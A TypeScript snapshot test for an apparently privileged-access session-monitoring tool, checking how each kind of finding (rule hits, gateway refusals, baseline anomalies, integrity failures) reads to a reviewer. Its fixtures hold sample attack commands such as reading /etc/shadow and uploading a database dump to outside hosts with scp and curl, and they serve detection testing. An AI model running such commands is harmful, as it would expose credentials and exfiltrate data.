/**
 * One finding of each kind, as a reviewer reads it, in `read-aloud.md` beside this file. Whoever changes a text sees there what becomes of it;
 * `vitest -u` writes it anew.
 */
import { expect, test } from 'vitest'
import type { WatchedSession } from '../../../src/analysis/analyst/session-observer.ts'
import type { Entry, EntryHit } from '../../../src/analysis/entry.ts'
import type { FindingDraft } from '../../../src/analysis/findings/finding.ts'
import { gatewayDraft } from '../../../src/analysis/findings/gateway-findings.ts'
import {
  logNotWhole,
  recordingLostBytes,
  recordingNotWhole,
  recordingUnread,
} from '../../../src/analysis/findings/integrity-findings.ts'
import { sampleOf } from '../../../src/analysis/findings/intake.ts'
import { FindingObserver } from '../../../src/analysis/findings/observer.ts'
import { reviewingDrafts } from '../../../src/analysis/findings/reviewing.ts'
import { RuleFindings } from '../../../src/analysis/findings/rule-findings.ts'
import { forbiddenWords } from '../../../src/analysis/findings/words.ts'
import { readCatalogue } from '../../../src/analysis/rules/catalogue.ts'
import { GatewayRules } from '../../../src/analysis/rules/gateway-rules.ts'
import type { ReadingRow } from '../../../src/model.ts'
import { HOUR, NOON, policyWith, sessionOf } from '../../policy/people.ts'
import { newFolder } from '../../support/scratch.ts'

const catalogue = readCatalogue()
const { analysis } = policyWith(
  'ops: { members: { groups: [ops] }, allow: [{ targets: { protocol: ssh }, logins: [root] }] }',
)
const dayMs = 24 * HOUR
const later = NOON + 200 * dayMs

/** As pages and the command line show it, without context. */
function aloud({ kind, severity, unusualness, body }: FindingDraft): string {
  const unusual = unusualness === undefined ? '' : `, unusualness ${unusualness}`
  return [
    `**${body.sentence}** (${kind}, ${severity}${unusual})`,
    ...body.why.map(({ observed, own, peers, everybody, adds }) =>
      [
        `- ${observed}`,
        ...(adds === undefined ? [] : [`  - adds: ${adds}`]),
        ...(own === undefined ? [] : [`  - this person: ${own}`]),
        ...(peers === undefined ? [] : [`  - peers: ${peers}`]),
        ...(everybody === undefined ? [] : [`  - everybody: ${everybody}`]),
      ].join('\n'),
    ),
    ...body.quotes.map(({ text }) => `- quote: \`${text}\``),
    ...body.techniques.map(({ id, name }) => `- ATT&CK: ${id} ${name}`),
    ...(body.benign.length === 0 ? [] : [`- check first: ${body.benign.join('; ')}`]),
    ...body.quality.map(text => `- ${text}`),
  ].join('\n')
}

// Rules.

function ruleFinding(id: string, entries: readonly Partial<Entry>[]): FindingDraft {
  const { severity = 'high', techniques = [] } = catalogue.about(id) ?? {}
  const findings = new RuleFindings('s1', {
    about: one => catalogue.about(one),
    off: new Set(),
    versions: {},
  })
  for (const [number, more] of entries.entries()) {
    const place = { session: 's1', atMs: NOON + number * 1000, offsetMs: 723_000 + number * 1000 }
    const entry: Entry = { ...place, number, kind: 'command', text: '', ...more }
    const hit: EntryHit = {
      ...place,
      entry: number,
      rule: id,
      severity,
      technique: techniques,
      quote: entry.text,
    }
    findings.take(entry, [hit])
  }
  const [draft] = findings.all()
  if (draft === undefined) throw new Error(`${id} made no finding`)
  return draft
}

const typed = { channel: 0, found: 'prompt', sure: 0.93 } as const
const asked = { channel: 1, found: 'exec', sure: 1 } as const
const refused = { ...asked, blocked: 'Policy does not allow this command here, only: uptime.' }

function gatewayFindings(): FindingDraft[] {
  const rules = new GatewayRules(catalogue.gateway)
  const at = { sourceAddress: '192.0.2.7', target: 'web1', login: 'root', person: 'bob' }
  const away = { ...at, sourceAddress: '203.0.113.9' }
  rules.refused({ ...at, atMs: NOON - 1200_000, code: 'no-role' })
  rules.refused({ ...at, atMs: NOON - 600_000, code: 'login' })
  rules.refused({ ...away, atMs: NOON - 300_000, code: 'source' })
  for (let time = 5; time > 0; time--)
    rules.refused({ sourceAddress: '192.0.2.7', atMs: NOON - time * 60_000, code: 'unknown' })
  const opened = rules.opened({ ...at, atMs: NOON, breakGlass: true })
  return opened.map(hit => gatewayDraft(hit, sessionOf({ openedAtMs: NOON })))
}

// Baselines.

const usual = Array.from({ length: 20 }, (_, at) => `SELECT id, total FROM orders WHERE id = ${at}`)
/** What others do all day. */
const payroll = Array.from({ length: 20 }, (_, at) => `CALL payroll.close_month(${at})`)
const folder = (): string => newFolder('aloud')

type Visit = {
  readonly person: string
  readonly atMs: number
  readonly target?: string
  readonly from?: string
  readonly rows?: number
  readonly tables?: readonly string[]
  readonly texts?: readonly string[]
  readonly stepMs?: number
}
let sessions = 0

function watchedOf({ person, atMs, target = 'orders', from = '10.1.1.1' }: Visit): WatchedSession {
  return {
    id: `v${++sessions}`,
    protocol: 'postgres',
    issuer: 'https://login.example.com',
    subject: person,
    principal: person,
    target,
    login: 'app',
    role: 'dba',
    sourceAddress: from,
    openedAtMs: atMs,
    recording: 'x',
    labels: {},
  }
}

function take(observer: FindingObserver, session: WatchedSession, visit: Visit): FindingDraft[] {
  const { rows = 100, tables = ['orders'], texts = usual, stepMs = 1000 } = visit
  return texts.flatMap((text, number) => [
    ...observer.took(
      {
        session: session.id,
        number,
        kind: 'statement',
        atMs: session.openedAtMs + number * stepMs,
        offsetMs: number * stepMs,
        text,
        statement: {
          statement: number,
          class: 'read',
          tables: [...tables],
          rows: Math.round(rows / texts.length),
          bytes: rows * 10,
        },
      },
      [],
    ),
  ])
}

function visit(observer: FindingObserver, told: Visit): FindingDraft[] {
  const session = watchedOf(told)
  observer.opened(session, false)
  return [...take(observer, session, told), ...observer.sealed(session)]
}

function company(): FindingObserver {
  const baselines = { ...analysis.baselines, profile: 500, score: 1.5 }
  const observer = new FindingObserver({ analysis: { ...analysis, baselines }, folder: folder() }, [])
  const people = ['ann', 'bob', 'carl', 'dora', 'eve', 'fred']
  for (const person of people) visit(observer, { person, atMs: NOON - 1, target: 'ledger' })
  for (let day = 0; day < 40; day++) {
    for (const person of people)
      visit(observer, { person, atMs: NOON + day * dayMs, rows: 80 + ((day * 7) % 40) })
    for (const person of ['gus', 'hal', 'ida', 'jon', 'kim', 'lea'])
      visit(observer, { person, atMs: NOON + day * dayMs, texts: payroll })
  }
  return observer
}

function baselineFindings(): [string, FindingDraft[]][] {
  const two = company()
  two.opened(watchedOf({ person: 'bob', atMs: later }), false)
  const hr = Array.from({ length: 40 }, (_, at) => `hr.t${at}`)
  const odd = Array.from({ length: 60 }, (_, at) => payroll[at % payroll.length] ?? '')
  const long = visit(company(), { person: 'bob', atMs: later, rows: 412_000, stepMs: 600_000 })
  return [
    ['many rows', visit(company(), { person: 'bob', atMs: later, rows: 412_000 })],
    ['many new tables', visit(company(), { person: 'bob', atMs: later, tables: hr })],
    [
      'a target that was not used for long',
      visit(company(), { person: 'bob', atMs: later, target: 'ledger' }),
    ],
    ['two networks at once', visit(two, { person: 'bob', atMs: later, from: '198.51.100.7' })],
    [
      'commands of another kind, in the night',
      visit(company(), { person: 'bob', atMs: later + 15 * HOUR, texts: odd }),
    ],
    ['a long session, before its end', long.slice(0, 1)],
    ['a long session, at its end', long.slice(-1)],
    ['somebody new', visit(company(), { person: 'gil', atMs: later, rows: 412_000 })],
  ]
}

function reviewing(): readonly FindingDraft[] {
  const readings = (atMs: number, count: number): ReadingRow[] =>
    Array.from({ length: count }, (_, at) => ({
      session: `s${at}`,
      issuer: 'i',
      subject: 'ann',
      name: 'ann',
      atMs: atMs + at,
      purpose: 'replay',
    }))
  const before = Array.from({ length: 30 }, (_, at) => readings(NOON - (at + 2) * HOUR, 3 + (at % 3)))
  return reviewingDrafts([...before.flat(), ...readings(NOON - HOUR, 500)], analysis.baselines, NOON)
}

const all = (): [string, readonly FindingDraft[]][] => [
  [
    'A rule, met once, by a request',
    [ruleFinding('SSH-16', [{ text: 'sudo cat /etc/shadow', command: asked }])],
  ],
  [
    'A rule, met several times, typed and refused',
    [
      ruleFinding('SSH-13', [
        { text: 'scp dump.sql ada@198.51.100.7:', command: typed },
        { text: 'curl -T dump.sql https://example.net/', command: refused },
      ]),
    ],
  ],
  [
    'A rule over several entries',
    [ruleFinding('SSH-26c', [{ text: 'bash /tmp/collect.sh', command: typed }])],
  ],
  [
    'A rule over all sessions of a person',
    [
      ruleFinding('B-04', [
        {
          text: 'SELECT * FROM customers ORDER BY id LIMIT 1000 OFFSET 24000',
          kind: 'statement',
          statement: { statement: 3, class: 'read', tables: ['customers'] },
        },
      ]),
    ],
  ],
  [
    'A command that was refused and run another way',
    [ruleFinding('B-08', [{ text: 'cat /etc/app.conf', command: typed }])],
  ],
  ...gatewayFindings().map((draft): [string, FindingDraft[]] => [
    `A rule of the gateway (${draft.group})`,
    [draft],
  ]),
  ...baselineFindings().map(([name, drafts]): [string, FindingDraft[]] => [`Baselines: ${name}`, drafts]),
  ['Baselines: a reviewer', reviewing()],
  [
    'Integrity: a check that failed',
    [recordingNotWhole('s1', 'record 3, byte 4,096: the hash does not match', NOON)],
  ],
  [
    'Integrity: a recording that a crash has cut',
    [
      recordingLostBytes(
        's1',
        ['Events from 120 to 133 are lost, and those after them could not be added.'],
        NOON,
      ),
    ],
  ],
  [
    'Integrity: a recording that was not read',
    [recordingUnread('s1', 'The recording is damaged in 2 places; the rest was read.', NOON)],
  ],
  [
    'Integrity: a log',
    [
      logNotWhole(
        'audit log',
        {
          file: '/var/lib/sallyport/audit/audit-000000004711.ndjson',
          record: 0,
          offset: 0,
          reason: 'the file should begin with line 4201: one is missing or renamed',
        },
        NOON,
      ),
    ],
  ],
  ['The random sample', [sampleOf(sessionOf(), 0.02, NOON)]],
]

test('one finding of each kind reads as it stands in read-aloud.md, without a word on anybody’s purpose', async () => {
  const told = all()
  for (const [name, drafts] of told) expect(drafts.length, name).toBe(1)
  const text = told.map(([name, [draft]]) => `## ${name}\n\n${draft === undefined ? '' : aloud(draft)}\n`)
  expect(text.join('\n')).not.toMatch(forbiddenWords)
  await expect(['# Findings, read aloud\n', ...text].join('\n')).toMatchFileSnapshot('read-aloud.md')
})
